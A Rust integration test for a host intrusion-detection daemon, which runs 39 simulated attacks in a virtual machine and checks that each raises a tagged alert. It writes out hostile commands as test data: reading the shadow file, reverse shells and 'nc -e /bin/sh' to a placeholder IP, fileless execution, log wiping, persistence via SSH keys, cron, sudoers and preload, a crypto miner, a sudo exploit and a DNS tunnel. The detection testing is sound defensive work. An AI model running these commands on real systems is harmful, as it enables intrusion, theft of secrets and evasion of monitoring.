//! What the pack of rules names is done in the guest, as an intruder would do it, and each is an alert: rules that
//! fire on written cases alone could wait for events that no probe delivers.

use quantumos_harness::Guest;
use quantumos_vm::{Outcome, ensure};
use serde_json::Value;

use crate::GUEST;

/// Nothing may be given up for its cost while an emulated processor runs it.
const SETTINGS: &str = "/etc/quantumos/security-ai.toml.d/intrusions.toml";
const UNLIMITED: &str = "[events]\nbudget-cpu-per-mille = 0\nbudget-memory-kib = 0\n";

/// A rule beyond the pack: on names of hosts, for which the daemon listens to name servers from its sandbox.
const TUNNEL: &str = "/etc/quantumos/security-ai/rules.d/tunnel.yml";
const RULE: &str = "title: Tunnel by Name\nid: tunnel\nlogsource: {product: linux, category: network_connection}\n\
    detection: {s: {DestinationHostname: a.example}, condition: s}\nlevel: high\ntags: [attack.t1572]\n";

/// Before: programs by other names, and a listener that a shell calls back to.
const SETUP: &str = r#"
set -e
mkdir -p /run/pack /tmp/pack
for name in nc xmrig sudo; do cp /usr/bin/true /run/pack/$name; done
cp /usr/bin/perl /run/pack/nginx
cp /usr/bin/bash /tmp/pack/implant
cp /usr/bin/unshare /tmp/pack/unshare
cat /proc/sys/kernel/core_pattern >/run/pack/core_pattern
for file in /root/.bashrc /root/.ssh/authorized_keys /etc/sudoers.d/pack /etc/cron.d/pack /etc/profile.d/pack.sh; do
    mkdir -p "$(dirname $file)"
    if test -e $file; then cp $file /run/pack/"${file//\//_}"; fi
done
ip link set lo up
ip address add 203.0.113.7/32 dev lo
"#;

/// After: as it was.
const CLEAN: &str = r#"
for file in /root/.bashrc /root/.ssh/authorized_keys /etc/sudoers.d/pack /etc/cron.d/pack /etc/profile.d/pack.sh; do
    rm -f $file
    if test -e /run/pack/"${file//\//_}"; then cp /run/pack/"${file//\//_}" $file; fi
done
cat /run/pack/core_pattern >/proc/sys/kernel/core_pattern
userdel -r packer 2>/dev/null
ip address del 203.0.113.7/32 dev lo
rm -rf /run/pack /tmp/pack /dev/shm/pack /var/log/auth.log /usr/bin/pack /etc/pack /etc/pam.d/pack \
    /etc/ld.so.preload /etc/quantumos/security-ai/rules.d/pack.yml
true
"#;

/// The rule's title, and what is done.
const INTRUSIONS: [(&str, &str); 39] = [
    ("Path Traversal to a Sensitive File", "cat /usr/share/../../etc/shadow >/dev/null"),
    ("Password Hashes Read by an Untrusted Program", "dd if=/etc/shadow of=/dev/null"),
    ("Shell Started by a Server Program", "/run/pack/nginx -e 'system(\"sh\", \"-c\", \"id; uname\")'"),
    ("System Configuration Written Below a Server", "/run/pack/nginx -e 'open F, \">/etc/pack\"'"),
    ("Search for Keys and Passwords", "grep -rl 'PRIVATE KEY' /etc/ssl"),
    ("Private Key or Token Read by a General Tool", "mkdir -p /root/.ssh; echo k >/root/.ssh/id_ed25519
        cat /root/.ssh/id_ed25519; rm /root/.ssh/id_ed25519"),
    ("Log Cleared or Removed", "truncate -s 0 /var/log/auth.log"),
    ("Log Written or Emptied by a Shell or Interpreter", ": >/var/log/auth.log"),
    ("Shell History Removed or Disabled", "touch /root/.bash_history; rm /root/.bash_history"),
    ("Bulk Deletion or Wiping of Data", "echo x >/root/pack; shred -u /root/pack"),
    ("Link Made to a Sensitive File", "ln -s /etc/shadow /tmp/pack/link"),
    ("Process Traced by an Odd Program", "sleep 60 & perl -e \"syscall(101, 16, $!, 0, 0)\"; kill $!"),
    ("Program Traces Itself", "perl -e 'syscall(101, 0, 0, 0, 0)'"),
    ("Program Run From Shared Memory", "cp /usr/bin/true /dev/shm/pack; /dev/shm/pack"),
    ("Program Run From Memory Only", r#"perl -e 'my ($n, $c) = ("x", ""); my $fd = syscall(319, $n, 0);
        open my $i, "<", "/usr/bin/true"; { local $/; $c = readline $i; } open my $f, ">&=", $fd;
        syswrite $f, $c; exec { "/proc/$$/fd/$fd" } "kworker"'"#),
    ("SSH to an Odd Port", "cp /usr/bin/perl /run/pack/ssh
        /run/pack/ssh -MSocket -e 'socket S, 2, 1, 0; connect S, sockaddr_in(4242, inet_aton(\"203.0.113.7\"))'"),
    ("Shell with a Network Connection as its Input", r#"timeout 20 perl -MSocket -e '
        my $at = sockaddr_in(4444, inet_aton("203.0.113.7")); socket L, 2, 1, 0; bind L, $at; listen L, 1;
        if (!fork) { socket S, 2, 1, 0; connect S, $at; open STDIN, "<&S"; open STDOUT, ">&S"; exec "sh" }
        accept A, L; syswrite A, "exit\n"; wait'"#),
    ("Tunnel by Name", r#"perl -MSocket -e '
        my $ip = inet_aton("203.0.113.7"); socket S, 2, 2, 0; bind S, sockaddr_in(53, $ip);
        socket C, 2, 2, 0; bind C, sockaddr_in(0, $ip);
        my $name = pack "C/a* C/a* x", "a", "example";
        send S, pack("n6 a* n2 n3 N n a4", 1, 0x8180, 1, 1, 0, 0, $name, 1, 1, 0xc00c, 1, 1, 60, 4, $ip), 0, getsockname C;
        recv C, my $answer, 512, 0; socket T, 2, 1, 0; connect T, sockaddr_in(9, $ip)'"#),
    ("Reverse Shell on a Command Line", "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'"),
    ("Netcat Runs a Program", "/run/pack/nc -e /bin/sh 203.0.113.7 4444"),
    ("Packet Socket Opened by an Odd Program", "perl -e 'socket S, 17, 3, 0'"),
    ("Kernel Module Loaded by Hand", "cp \"$(find /usr/lib/modules -name 'dummy.ko*' | head -n 1)\" /tmp/pack/
        insmod /tmp/pack/dummy.ko*; rmmod dummy"),
    ("Kernel Helper Program Changed", "cat /run/pack/core_pattern >/proc/sys/kernel/core_pattern"),
    ("User Namespace Made by an Odd Program", "setpriv --reuid=65534 --clear-groups /tmp/pack/unshare -Urn true"),
    ("Namespaces of the Host Entered", "nsenter -t 1 -m true"),
    ("Set-User-ID Bit Set", "chmod u+s /tmp/pack/implant"),
    ("SSH Keys of a User Changed", "echo k >>/root/.ssh/authorized_keys"),
    ("Scheduled Job Changed", "echo '# x' >/etc/cron.d/pack"),
    ("Shell Start-up for All Users Changed", "echo : >/etc/profile.d/pack.sh"),
    ("Shell Start-up File of a User Changed", "echo : >>/root/.bashrc"),
    ("Sudo Rules Changed", "mkdir -p /etc/sudoers.d; echo '# x' >/etc/sudoers.d/pack"),
    ("Library Preloaded Into Every Program", ": >/etc/ld.so.preload"),
    ("Cryptocurrency Miner Started", "/run/pack/xmrig -o stratum+tcp://pool.example:3333 -u wallet"),
    ("Account Made or Raised to Administrator", "useradd -G root packer"),
    ("Package Database Written by an Odd Program", ": >>/var/lib/dpkg/status"),
    ("Program of the System Written by an Odd Program", "cp /usr/bin/true /usr/bin/pack"),
    ("System Configuration Written by a Program of No Package", "/tmp/pack/implant -c ': >/etc/pack'"),
    ("Hole in sudo Tried", "/run/pack/sudo -u#-1 id"),
    ("Program, Rules or Unit of the Detection Changed", "mkdir -p /etc/quantumos/security-ai/rules.d
        : >/etc/quantumos/security-ai/rules.d/pack.yml"),
];

#[test]
fn what_the_pack_names_is_seen_on_a_host() {
    GUEST.scenario(|guest| {
        guest.put(SETTINGS, "0644", UNLIMITED.as_bytes())?;
        guest.put(TUNNEL, "0644", RULE.as_bytes())?;
        guest.shell("systemctl restart security-ai && quantumctl security clear")?;
        let outcome = intruded(guest);
        guest.shell(CLEAN)?;
        guest.shell(&format!(
            "rm {SETTINGS} {TUNNEL}; systemctl restart security-ai && quantumctl security clear"
        ))?;
        outcome
    });
}

fn intruded(guest: &Guest) -> Outcome {
    guest.shell(SETUP)?;
    for (_, done) in INTRUSIONS {
        // Whether it succeeds is not what counts.
        guest.shell(&format!("cd /tmp; PATH=$PATH:/usr/sbin\n{done}\ntrue"))?;
    }
    for (title, done) in INTRUSIONS {
        let raised = format!("quantumctl security alerts | grep -qF '{title}'");
        guest
            .eventually(&raised)
            .map_err(|error| format!("no alert {title:?} after {done}: {error}"))?;
    }
    let listed = guest.shell("quantumctl --json security alerts")?;
    let listed: Value = serde_json::from_str(&listed)?;
    let ours = |alert: &&Value| INTRUSIONS.iter().any(|(title, _)| alert["title"] == *title);
    for alert in listed["alerts"]
        .as_array()
        .into_iter()
        .flatten()
        .filter(ours)
    {
        let technique = |tag: &Value| tag.as_str().is_some_and(|tag| tag.starts_with("attack.t"));
        let tags = alert["tags"].as_array();
        ensure(tags.is_some_and(|tags| tags.iter().any(technique)), || {
            format!("no technique: {alert}")
        })?;
        for part in ["user", "unit", "executable", "explanation", "level"] {
            ensure(
                alert[part].as_str().is_some_and(|text| !text.is_empty()),
                || format!("no {part}: {alert}"),
            )?;
        }
        let ancestors = alert["ancestors"].as_array();
        ensure(ancestors.is_some_and(|all| !all.is_empty()), || {
            format!("no ancestors: {alert}")
        })?;
    }
    Ok(())
}
